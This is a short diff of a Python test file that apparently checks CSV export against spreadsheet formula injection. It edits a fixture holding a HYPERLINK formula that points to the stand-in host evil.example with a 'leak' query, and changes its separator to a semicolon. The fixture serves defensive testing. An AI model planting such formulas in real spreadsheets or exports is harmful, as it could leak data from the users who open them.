@@ -281,7 +281,7 @@ def test_csv_one_row_per_span_with_quoting(labelled, tmp_path):
 
 
 FORMULA_TEXT = "=1+1 starts this text. -5 degrees then. @home and +more. Plain end."
-FORMULA_CODER = '=HYPERLINK("http://evil.example/?leak","click")'
+FORMULA_CODER = '=HYPERLINK("http://evil.example/?leak";"click")'  # ';': names hold no ','
 
 
 @pytest.fixture
